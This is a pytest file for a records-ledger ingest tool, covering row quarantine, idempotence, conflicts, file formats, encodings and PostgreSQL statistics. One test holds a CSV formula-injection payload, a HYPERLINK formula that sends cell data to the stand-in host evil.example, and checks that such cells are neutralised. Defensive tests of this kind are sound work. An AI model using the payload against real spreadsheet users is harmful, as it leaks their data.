"""Ingest on SQLite and PostgreSQL: quarantine, idempotence, conflicts, formats, exit codes."""

from __future__ import annotations

import csv
import io
import json
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from tests.support.postgres import reset_pg
from xinyong.cli.app import app
from xinyong.domain.catalog import load_catalog
from xinyong.domain.identifiers import synthetic_resident_id, synthetic_uscc
from xinyong.ingest import records as records_module
from xinyong.ingest.files import ingest_records
from xinyong.ingest.records import ingest_rows
from xinyong.ingest.reject_log import MAX_PER_INGEST, log_rejects, recent_rejects
from xinyong.ingest.rejects import Reject
from xinyong.ledger import database
from xinyong.ledger.database import open_database

PERSON = synthetic_resident_id(1, date(1980, 1, 2), 11)
ORG = synthetic_uscc(2, 5)
FIELDS = [
    "record_id",
    "subject_id",
    "subject_kind",
    "code",
    "occurred_at",
    "source",
    "case_id",
    "attrs",
    "evidence",
]

GOOD = [
    [
        "r1",
        PERSON,
        "person",
        "court.defaulter",
        "2024-01-02",
        "court",
        "c1",
        '{"amount": 5000, "ground": 1}',
        "doc:1",
    ],
    ["r2", PERSON, "person", "court.judgment_performed", "2024-06-02", "court", "c1", "", ""],
    [
        "r3",
        ORG,
        "organization",
        "tax.evasion",
        "2024-03-02",
        "court",
        "",
        '{"amount": 150000.5, "share_of_due": 0.2}',
        "",
    ],
]
# Each bad row and the field its rejection must name.
BAD = [
    (["r4", PERSON, "person", "", "2024-03-02", "court", "", "", ""], "code"),
    (["r5", PERSON, "person", "court.defaulter", "2024-13-02", "court", "", "", ""], "occurred_at"),
    (["r6", PERSON, "person", "court.defaulter", "02/01/2024", "court", "", "", ""], "occurred_at"),
    (["r7", PERSON, "person", "court.defaulter", "2024-01-02", "court", "", "{bad", ""], "attrs"),
    (["r8", PERSON, "alien", "court.defaulter", "2024-01-02", "court", "", "", ""], "subject_kind"),
    (
        [
            "r9",
            "110105194912310021",
            "person",
            "court.defaulter",
            "2024-01-02",
            "court",
            "",
            "",
            "",
        ],
        "subject_id",
    ),
    (
        [
            "r10",
            ORG[:-1] + ("0" if ORG[-1] != "0" else "1"),
            "organization",
            "tax.evasion",
            "2024-01-02",
            "court",
            "",
            "",
            "",
        ],
        "subject_id",
    ),
    (["r11", PERSON, "person", "Court.Defaulter", "2024-01-02", "court", "", "", ""], "code"),
    (["r12", PERSON, "person", "court.unknown_thing", "2024-01-02", "court", "", "", ""], "code"),
    (
        [
            "r13",
            PERSON,
            "person",
            "court.defaulter",
            "2024-01-02",
            "court",
            "",
            '{"religion": "x"}',
            "",
        ],
        "attrs.religion",
    ),
    (
        [
            "r14",
            PERSON,
            "person",
            "court.defaulter",
            "2024-01-02",
            "court",
            "",
            '{"amount": "lots"}',
            "",
        ],
        "attrs.amount",
    ),
    (
        ["r15", PERSON, "person", "court.defaulter", "2024-01-02", "court", "", "[1, 2]", ""],
        "attrs",
    ),
    (["", PERSON, "person", "court.defaulter", "2024-01-02", "court", "", "", ""], "record_id"),
    (["r16", "", "person", "court.defaulter", "2024-01-02", "court", "", "", ""], "subject_id"),
    (
        ["r17", PERSON, "person", "court.defaulter", "2999-01-02", "court", "", "", ""],
        "occurred_at",
    ),
    (
        ["r18", PERSON, "person", "market.abnormal_operations", "2024-01-02", "court", "", "", ""],
        "code",
    ),
    (["r19", PERSON, "person", "court.defaulter", "2024-01-02", "", "", "", ""], "source"),
]

runner = CliRunner()


def _write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(FIELDS)
        writer.writerows(rows)
    return path


def _count(url: str, table: str = "records") -> int:
    engine = sa.create_engine(url)
    with engine.connect() as conn:
        value = conn.exec_driver_sql(f"SELECT count(*) FROM {table}").scalar()
    engine.dispose()
    return int(value or 0)


def _rejects(path: Path) -> list[dict[str, str]]:
    with path.with_name(path.name + ".rejects.csv").open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_bad_rows_are_quarantined_good_rows_committed(ledger_url: str, tmp_path: Path) -> None:
    rows = [GOOD[0], *(row for row, _ in BAD), GOOD[1], GOOD[2]]
    path = _write_csv(tmp_path / "in.csv", rows)
    result = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
    assert result.exit_code == 1, result.output
    assert _count(ledger_url) == 3
    assert _count(ledger_url, "subjects") == 2
    rejects = _rejects(path)
    assert [r["field"] for r in rejects] == [field for _, field in BAD]
    assert [int(r["line"]) for r in rejects] == list(range(3, 3 + len(BAD)))
    assert all(r["reason"] for r in rejects)
    assert json.loads(rejects[0]["row"])["record_id"] == "r4"
    assert "check digit" in rejects[5]["reason"]
    assert "check character" in rejects[6]["reason"]
    assert "not in the catalog" in rejects[8]["reason"]
    assert "malformed" in rejects[7]["reason"]
    # the ledger still verifies after a partial ingest
    verified = runner.invoke(app, ["ledger", "verify", "--db", ledger_url])
    assert verified.exit_code == 0, verified.output


def test_reingest_is_idempotent_and_clears_stale_rejects(ledger_url: str, tmp_path: Path) -> None:
    path = _write_csv(tmp_path / "in.csv", GOOD)
    first = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
    assert first.exit_code == 0, first.output
    head = runner.invoke(app, ["ledger", "head", "--db", ledger_url, "--json"])
    (tmp_path / "in.csv.rejects.csv").write_text("stale")
    again = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
    assert again.exit_code == 0, again.output
    assert "3 already present" in again.output
    assert _count(ledger_url) == 3
    assert (
        runner.invoke(app, ["ledger", "head", "--db", ledger_url, "--json"]).output == head.output
    )
    assert not (tmp_path / "in.csv.rejects.csv").exists()


def test_conflicts_are_rejected_never_overwritten(ledger_url: str, tmp_path: Path) -> None:
    _write_csv(tmp_path / "a.csv", GOOD)
    assert (
        runner.invoke(app, ["ingest", str(tmp_path / "a.csv"), "--db", ledger_url]).exit_code == 0
    )
    changed = [GOOD[0][:4] + ["2024-01-03"] + GOOD[0][5:], GOOD[1]]
    path = _write_csv(
        tmp_path / "b.csv", changed + [changed[0][:3] + ["court.breach_judgment"] + changed[0][4:]]
    )
    result = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
    assert result.exit_code == 1
    rejects = _rejects(path)
    assert [r["line"] for r in rejects] == ["2", "4"]
    assert all("conflict" in r["reason"] for r in rejects)
    engine = sa.create_engine(ledger_url)
    with engine.connect() as conn:
        stored = conn.exec_driver_sql(
            "SELECT occurred_at FROM records WHERE record_id = 'r1'"
        ).scalar()
    engine.dispose()
    assert str(stored) == "2024-01-02"


def test_in_file_duplicates(ledger_url: str, tmp_path: Path) -> None:
    path = _write_csv(tmp_path / "in.csv", [GOOD[0], GOOD[0], GOOD[1]])
    result = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
    assert result.exit_code == 0, result.output
    assert _count(ledger_url) == 2


def test_subject_kind_must_match_registration(ledger_url: str, tmp_path: Path) -> None:
    rows = [
        ["r8", "ext:1", "person", "court.defaulter", "2024-01-02", "court", "", "", ""],
        ["r9", "ext:1", "organization", "tax.evasion", "2024-01-02", "court", "", "", ""],
    ]
    path = _write_csv(tmp_path / "in.csv", rows)
    assert runner.invoke(app, ["ingest", str(path), "--db", ledger_url]).exit_code == 1
    assert "registered as person" in _rejects(path)[0]["reason"]


def test_source_option(ledger_url: str, tmp_path: Path) -> None:
    rows = [GOOD[0][:5] + [""] + GOOD[0][6:], GOOD[1][:5] + ["tax"] + GOOD[1][6:]]
    path = _write_csv(tmp_path / "in.csv", rows)
    result = runner.invoke(app, ["ingest", str(path), "--source", "court", "--db", ledger_url])
    assert result.exit_code == 1
    assert _rejects(path)[0]["field"] == "source"
    assert _count(ledger_url) == 1


@pytest.mark.parametrize("fmt", ["parquet", "jsonl"])
def test_parquet_and_jsonl(ledger_url: str, tmp_path: Path, fmt: str) -> None:
    rows = [*GOOD, BAD[0][0]]
    dicts = [dict(zip(FIELDS, row, strict=True)) for row in rows]
    if fmt == "parquet":
        path = tmp_path / "in.parquet"
        table = pa.Table.from_pylist(dicts)
        table = table.set_column(
            4,
            "occurred_at",
            pa.array([date.fromisoformat(d["occurred_at"]) for d in dicts], pa.date32()),
        )
        pq.write_table(table, path)
    else:
        path = tmp_path / "in.jsonl"
        lines = []
        for d in dicts:
            attrs = json.loads(d["attrs"]) if d["attrs"] else {}
            lines.append(json.dumps({**d, "attrs": attrs}))
        lines.insert(2, "{not json")
        path.write_text("\n".join(lines) + "\n")
    result = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
    assert result.exit_code == 1, result.output
    assert _count(ledger_url) == 3
    rejects = _rejects(path)
    if fmt == "parquet":
        assert [(r["line"], r["field"]) for r in rejects] == [("4", "code")]
    else:
        assert [(r["line"], r["field"]) for r in rejects] == [("3", "(line)"), ("5", "code")]


def test_usage_errors_exit_2(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'l.db'}"
    assert runner.invoke(app, ["ingest", str(tmp_path / "missing.csv"), "--db", db]).exit_code == 2
    (tmp_path / "x.xlsx").write_text("x")
    result = runner.invoke(app, ["ingest", str(tmp_path / "x.xlsx"), "--db", db])
    assert result.exit_code == 2
    assert "unknown format" in result.output
    (tmp_path / "nocode.csv").write_text("record_id,subject_id\nr1,x\n")
    result = runner.invoke(app, ["ingest", str(tmp_path / "nocode.csv"), "--db", db])
    assert result.exit_code == 2
    assert "missing column" in result.output


def test_csv_multiline_and_ragged_rows(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'l.db'}"
    path = tmp_path / "in.csv"
    path.write_text(
        ",".join(FIELDS)
        + "\n"
        + ",".join(GOOD[1])
        + "\n"
        + f'r20,{PERSON},person,court.defaulter,2024-01-02,court,,"{{""amount"":\n 1}}",x\n'
        + "r21,too,few\n"
        + ",".join(GOOD[0]).replace('{"amount": 5000, "ground": 1}', '"{""amount"": 5}"')
        + "\n",
        encoding="utf-8",
    )
    engine = open_database(url)
    report = ingest_records(engine, path, load_catalog())
    engine.dispose()
    assert report.accepted == 3
    assert [(r.line, r.field) for r in report.rejects] == [(5, "(line)")]


def test_subjects_load(ledger_url: str, tmp_path: Path) -> None:
    path = tmp_path / "subjects.csv"
    path.write_text(
        "subject_id,kind,display_name,resident_id,uscc,region\n"
        f"{PERSON},person,张伟,{PERSON},,r1\n"
        f"{ORG},organization,某某科技有限公司,,{ORG},r2\n"
        "ext:42,person,Opaque Person,,,r1\n"
        f"{PERSON[:-1]}0,person,Bad Check,,,r1\n"
        f"ext:43,organization,Wrong,{PERSON},,r1\n",
        encoding="utf-8",
    )
    result = runner.invoke(app, ["subjects", "load", str(path), "--db", ledger_url])
    assert result.exit_code == 1, result.output
    assert "ignored columns: region" in result.output
    assert [r["field"] for r in _rejects(path)] == ["subject_id", "resident_id"]
    assert _count(ledger_url, "subjects") == 3
    # loading again changes nothing; a new name appends a version
    path.write_text(f"subject_id,kind,display_name\n{PERSON},person,张伟\next:42,person,New\n")
    again = runner.invoke(app, ["subjects", "load", str(path), "--db", ledger_url])
    assert again.exit_code == 0, again.output
    assert "1 updated, 1 unchanged" in again.output
    assert _count(ledger_url, "subjects") == 4
    # records for a subject registered as a person may not call it an organization
    rec = _write_csv(
        tmp_path / "rec.csv",
        [["r1", ORG, "person", "court.defaulter", "2024-01-02", "court", "", "", ""]],
    )
    assert runner.invoke(app, ["ingest", str(rec), "--db", ledger_url]).exit_code == 1


def test_export_round_trip(ledger_url: str, tmp_path: Path) -> None:
    path = _write_csv(tmp_path / "in.csv", GOOD)
    assert runner.invoke(app, ["ingest", str(path), "--db", ledger_url]).exit_code == 0
    out = tmp_path / "out.parquet"
    result = runner.invoke(
        app, ["export", "--out", str(out), "--as-of", "2024-05-01", "--db", ledger_url]
    )
    assert result.exit_code == 0, result.output
    table = pq.read_table(out)
    assert sorted(table.column("record_id").to_pylist()) == ["r1", "r3"]
    assert table.schema.field("occurred_at").type == pa.date32()
    # the export is itself ingestible (into another ledger) and gives the same records
    other = f"sqlite:///{tmp_path / 'other.db'}"
    assert runner.invoke(app, ["ingest", str(out), "--db", other]).exit_code == 0
    assert _count(other) == 2


def test_rejects_are_logged_for_the_operator_without_values(
    ledger_url: str, tmp_path: Path
) -> None:
    rows = [GOOD[0], *(row for row, _ in BAD), GOOD[1]]
    path = _write_csv(tmp_path / "in.csv", rows)
    assert runner.invoke(app, ["ingest", str(path), "--db", ledger_url]).exit_code == 1
    engine = open_database(ledger_url)
    try:
        with engine.connect() as conn:
            total, logged = recent_rejects(conn)
    finally:
        engine.dispose()
    quarantined = _rejects(path)
    assert total == len(logged) == len(quarantined) > 0
    assert {(r.line, r.field, r.reason) for r in logged} == {
        (int(q["line"]), q["field"], q["reason"]) for q in quarantined
    }
    assert {r.origin for r in logged} == {f"file {path.name}"}


def test_a_flood_of_rejects_is_logged_in_part(ledger_url: str) -> None:
    engine = open_database(ledger_url)
    try:
        rejects = [Reject(i, "code", "unknown code", "{}") for i in range(1, MAX_PER_INGEST + 6)]
        log_rejects(engine, "file flood.csv", "bank", rejects)
        with engine.connect() as conn:
            total, newest = recent_rejects(conn, limit=1)
    finally:
        engine.dispose()
    assert total == MAX_PER_INGEST + 1
    assert newest[0].field == "(more)"
    assert newest[0].reason.startswith("5 more rejects")


# ---------------------------------------------------------------- encodings and spreadsheets


def _csv_bytes(rows: list[list[str]], encoding: str = "utf-8", header: bool = True) -> bytes:
    text = io.StringIO()
    writer = csv.writer(text, lineterminator="\n")
    writer.writerows([FIELDS, *rows] if header else rows)
    return text.getvalue().encode(encoding)


def test_a_line_that_is_not_utf8_is_one_reject(ledger_url: str, tmp_path: Path) -> None:
    good = [GOOD[0][:-1] + ["判决书 1"], GOOD[1]]  # the file is UTF-8: it has Chinese in it
    bad = ["r9", PERSON, "person", "court.defaulter", "2024-01-02", "court", "", "", "法院判决书"]
    path = tmp_path / "mixed.csv"
    data = _csv_bytes([good[0]]) + _csv_bytes([bad], "gbk", header=False)
    path.write_bytes(data + _csv_bytes([good[1]], header=False))
    result = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
    assert result.exit_code == 1, result.output
    assert _count(ledger_url) == 2  # nothing valid is lost with the bad line
    (reject,) = _rejects(path)
    assert (reject["line"], reject["field"]) == ("3", "evidence")
    assert reject["reason"].startswith("not UTF-8 text (byte 0x")


def test_a_file_in_another_encoding_is_refused_before_anything_is_committed(
    ledger_url: str, tmp_path: Path
) -> None:
    path = tmp_path / "gbk.csv"
    rows = [GOOD[1], [*GOOD[0][:-1], "判决书"], GOOD[2]]
    path.write_bytes(_csv_bytes(rows, "gbk"))
    result = runner.invoke(app, ["ingest", str(path), "--db", ledger_url])
    assert result.exit_code == 2
    assert "line 3: not UTF-8 text" in result.output
    assert "GB18030" in result.output
    assert "Traceback" not in result.output
    assert _count(ledger_url) == 0


def test_the_rejects_file_never_holds_a_formula(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'ledger.db'}"
    path = tmp_path / "formula.csv"
    path.write_text(
        ",".join(FIELDS) + "\n"
        '=HYPERLINK("http://evil.example/?"&A1),x\n'
        f"r2,{PERSON},person,court.defaulter,@SUM(1+1),court,,,\n"
        f"r3,{PERSON},person,court.defaulter,2024-01-02,court,,,\n",
        encoding="utf-8",
    )
    result = runner.invoke(app, ["ingest", str(path), "--db", url])
    assert result.exit_code == 1, result.output
    with path.with_name(path.name + ".rejects.csv").open(encoding="utf-8") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(c.startswith("'=HYPERLINK") for c in cells)


def _counted_refreshes(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The rows each refresh of the statistics is for, in the order they start (from 10 rows
    appended instead of 10,000)."""
    monkeypatch.setattr("xinyong.ledger.database.ANALYZE_AFTER_ROWS", 10)
    started: list[int] = []
    analyse = database.after_bulk_load

    def counted(engine: sa.Engine, rows: int, stop: database.AnalyseStop | None = None) -> None:
        started.append(rows)
        analyse(engine, rows, stop)

    monkeypatch.setattr("xinyong.ledger.database.after_bulk_load", counted)
    return started


def _many_rows(prefix: str, count: int) -> list[list[str]]:
    return [
        [f"{prefix}{i}", PERSON, "person", "traffic.violation", "2024-01-02", "police", "", "", ""]
        for i in range(count)
    ]


def _planned_records(engine: sa.Engine) -> float:
    with engine.connect() as conn:
        planned = conn.exec_driver_sql("SELECT reltuples FROM pg_class WHERE relname = 'records'")
        return float(planned.scalar_one())


@pytest.mark.postgres
def test_a_long_load_keeps_the_planner_statistics_current(
    pg_server_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Statistics are refreshed during a load that looks things up in the ledger (each time it
    has doubled), not only at its end: a server without autovacuum would otherwise plan every
    batch's lookups from an empty table. The refreshes run beside the load, so which batch
    starts each depends on how long the one before took; what holds every time is checked
    here."""
    reset_pg(pg_server_url)
    engine = open_database(pg_server_url)
    first = tmp_path / "first.csv"
    _write_csv(first, _many_rows("f", 1))
    assert ingest_records(engine, first, load_catalog()).accepted == 1
    started = _counted_refreshes(monkeypatch)  # the source and the subject exist: lookups
    path = tmp_path / "many.csv"
    _write_csv(path, _many_rows("m", 160))

    report = ingest_records(engine, path, load_catalog(), batch_size=10)
    assert report.accepted == 160
    assert _planned_records(engine) == 161  # the last refresh ended before the ingest returned
    during = [part for part in started if part]  # the end's call for no rows analyses nothing
    assert during[0] == 10  # the first batch starts one at once
    assert sum(during) == 160  # each is for the rows since the one before
    covered = 0
    for part in during[:-1]:  # each started once the load had at least doubled
        assert part >= max(10, covered)
        covered += part
    assert len(during) >= 2
    engine.dispose()


@pytest.mark.postgres
def test_a_load_into_an_empty_ledger_refreshes_the_statistics_once_at_its_end(
    pg_server_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Such a load looks nothing up (only its own rows can collide, and those are checked in
    memory), so no plan of it depends on the statistics until it ends; refreshing them during
    the load cost the server about a tenth of its work (docs/benchmarks.md)."""
    started = _counted_refreshes(monkeypatch)
    reset_pg(pg_server_url)
    engine = open_database(pg_server_url)
    path = tmp_path / "many.csv"
    _write_csv(path, _many_rows("m", 160))

    report = ingest_records(engine, path, load_catalog(), batch_size=10)
    assert report.accepted == 160
    assert started == [160]
    assert _planned_records(engine) == 160
    engine.dispose()


class _Interrupted(Exception):
    """Raised from a load's progress to stop it part way."""


def _wait_for_counted_writes(engine: sa.Engine, rows: int) -> None:
    """Wait until PostgreSQL's activity counters show ``rows`` written to ``records`` since its
    last analysis (a backend reports them when it goes idle or ends, not at once)."""
    query = "SELECT n_mod_since_analyze FROM pg_stat_user_tables WHERE relname = 'records'"
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline:
        with engine.connect() as conn:
            if conn.exec_driver_sql(query).scalar_one() >= rows:
                return
        time.sleep(0.2)
    raise AssertionError("the writes were never counted")


def _interrupted_load(
    url: str, tmp_path: Path, rows: int, *, stop_at: int, batch_size: int
) -> tuple[sa.Engine, Path]:
    """A fresh PostgreSQL ledger with a load of ``rows`` rows interrupted once ``stop_at`` of
    them are read, its writes counted in the server's statistics; the engine and the file."""
    reset_pg(url)
    engine = open_database(url)
    path = tmp_path / "many.csv"
    _write_csv(path, _many_rows("m", rows))

    def interrupt(done: int, _total: int | None) -> None:
        if done >= stop_at:
            raise _Interrupted

    with pytest.raises(_Interrupted):
        ingest_records(engine, path, load_catalog(), batch_size=batch_size, progress=interrupt)
    engine.dispose()  # the load's connections end: their counters are reported
    _wait_for_counted_writes(engine, stop_at)
    return engine, path


@pytest.mark.postgres
def test_a_load_run_again_after_an_interruption_looks_up_from_fresh_statistics(
    pg_server_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A load into an empty ledger refreshes the statistics only at its end, so one interrupted
    leaves none; run again, it finds its rows (so it appends none and would never fall due for
    a refresh) with lookups that were planned as scans of the whole source, slower with every
    batch. The first batch that looks anything up refreshes them first."""
    started = _counted_refreshes(monkeypatch)
    engine, path = _interrupted_load(pg_server_url, tmp_path, 160, stop_at=100, batch_size=10)
    assert started == []
    planned: list[float] = []
    existing = records_module._existing

    def looked_up(conn: sa.Connection, rows: object) -> object:
        reltuples = "SELECT reltuples FROM pg_class WHERE relname = 'records'"
        planned.append(float(conn.exec_driver_sql(reltuples).scalar_one()))
        return existing(conn, rows)  # type: ignore[arg-type]

    monkeypatch.setattr(records_module, "_existing", looked_up)
    report = ingest_records(engine, path, load_catalog(), batch_size=10)
    assert (report.duplicates, report.accepted) == (100, 60)
    assert planned[0] == 100  # the first lookup was planned from statistics of every row there
    engine.dispose()


def test_an_ingest_that_fails_closes_its_input(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    closed: list[bool] = []
    validated = records_module._validated

    def tracked(*args: Any, **kwargs: Any) -> Iterator[Any]:
        try:
            yield from validated(*args, **kwargs)
        finally:
            closed.append(True)

    monkeypatch.setattr(records_module, "_validated", tracked)
    path = tmp_path / "many.csv"
    _write_csv(path, _many_rows("m", 50))
    engine = open_database(f"sqlite:///{tmp_path / 'ledger.db'}")

    def fail(_done: int, _total: int | None) -> None:
        raise _Interrupted

    with pytest.raises(_Interrupted):
        ingest_records(engine, path, load_catalog(), batch_size=5, progress=fail, apart=False)
    assert closed == [True]
    engine.dispose()


@pytest.mark.postgres
def test_submissions_refresh_stale_statistics_at_most_once_a_minute(
    pg_server_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A load interrupted before its end leaves no statistics, and the API's submissions, which
    no load covers, would plan their lookups without them until the next load; a submission
    looks at them first (at most once a minute per engine) and refreshes stale ones."""
    monkeypatch.setattr("xinyong.ledger.database.ANALYZE_AFTER_ROWS", 10)
    checks: list[bool] = []
    unanalysed = database.ledger_unanalysed

    def counted(engine: sa.Engine) -> bool:
        checks.append(unanalysed(engine))
        return checks[-1]

    monkeypatch.setattr("xinyong.ledger.database.ledger_unanalysed", counted)
    engine, _ = _interrupted_load(pg_server_url, tmp_path, 100, stop_at=60, batch_size=20)
    submitted = [
        {
            "record_id": "api-1",
            "subject_id": PERSON,
            "subject_kind": "person",
            "code": "traffic.violation",
            "occurred_at": "2024-01-02",
        }
    ]
    assert ingest_rows(engine, submitted, load_catalog(), source="police").accepted == 1
    assert checks == [True]
    assert _planned_records(engine) == 60  # analysed before the submission's lookups
    submitted[0]["record_id"] = "api-2"
    assert ingest_rows(engine, submitted, load_catalog(), source="police").accepted == 1
    assert checks == [True]  # not looked at again within the minute
    engine.dispose()
